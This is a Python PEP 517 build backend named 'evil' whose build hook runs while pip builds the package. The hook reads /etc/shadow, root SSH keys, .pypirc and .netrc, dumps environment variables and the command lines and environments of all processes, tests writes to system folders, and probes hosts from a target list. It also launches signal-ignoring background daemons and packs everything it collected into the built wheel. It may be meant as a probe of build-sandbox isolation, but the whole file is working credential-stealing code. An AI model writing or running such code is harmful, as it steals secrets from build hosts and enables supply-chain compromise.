# Runs while pip makes a package of it, and needs no other package for that (PEP 517). What it found becomes the package.
import errno
import glob
import os
import socket
import subprocess
import zipfile
from concurrent.futures import ThreadPoolExecutor

FILES = [
    "/etc/shadow",
    "/root/.pypirc",
    "/root/.ssh/id_rsa",
    "/root/.netrc",
    "/root/.config/pip/pip.conf",
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/var/lib/docker",
]
FOLDERS = ["/", "/etc", "/usr", "/usr/lib/python3", "/opt/micropush", "/opt/micropush/wheels", "/source", "/var"]
DAEMON = 'trap "" TERM HUP INT; while :; do for d in /app /dependencies /tmp; do echo x >> $d/late.txt; done; sleep 0.05; done'


def attempt(action):
    try:
        return action() or "done"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def read(path):
    with open(path, errors="replace") as file:
        return file.read()


def write(folder):
    with open(f"{folder}/mine", "w") as file:
        file.write("x")


def dial(host):
    try:
        with socket.create_connection((host, 80), timeout=1) as connection:
            return "open" if connection.recv(1) else "closed"
    except socket.timeout:
        return "no answer"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


def attack():
    for _ in range(5):
        subprocess.Popen(["setsid", "sh", "-c", f"({DAEMON}) &"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    targets = read("targets.txt").split()
    with ThreadPoolExecutor(len(targets)) as pool:
        dialled = dict(zip(targets, pool.map(dial, targets)))
    return {
        "user": os.getuid(),
        "environment": dict(os.environ),
        "configuration": subprocess.run(["pip", "config", "list"], capture_output=True, text=True).stdout,
        "files": {path: attempt(lambda: read(path)) for path in FILES},
        "writes": {folder: attempt(lambda: write(folder)) for folder in FOLDERS},
        "processes": [attempt(lambda: read(path)).replace("\0", " ") for path in glob.glob("/proc/[0-9]*/cmdline")],
        "environments": [attempt(lambda: read(path)) for path in glob.glob("/proc/[0-9]*/environ")],
        "dialled": dialled,
    }


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "evil-1.0-py3-none-any.whl"
    info = "evil-1.0.dist-info"
    with zipfile.ZipFile(f"{wheel_directory}/{name}", "w") as wheel:
        wheel.writestr("evil_found.py", f"FOUND = {attack()!r}\n")
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
